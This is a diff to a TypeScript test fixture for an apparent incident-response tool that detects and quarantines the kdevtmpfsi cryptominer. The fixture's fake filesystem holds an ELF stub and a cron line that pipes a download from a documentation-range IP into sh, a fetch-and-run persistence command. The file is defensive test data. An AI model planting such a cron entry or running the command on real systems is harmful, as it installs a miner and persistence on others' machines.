@@ -13,6 +13,8 @@ function fixture(t: { after: (fn: () => void) => void }) {
     "tmp/kdevtmpfsi": Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0, 1, 2]),
     "var/spool/cron/crontabs/daemon": "* * * * * curl -s http://198.51.100.7/kdevtmpfsi | sh\n",
   });
+  // As a real /tmp: the miner's program is in a directory anyone can write, so respond moves it.
+  fs.chmodSync(path.join(root, "tmp"), 0o1777);
   const report = path.join(dir, "report.json");
   // The quarantine is on the host, never in the image; tests keep it in their own directory.
   const q = path.join(dir, "q");
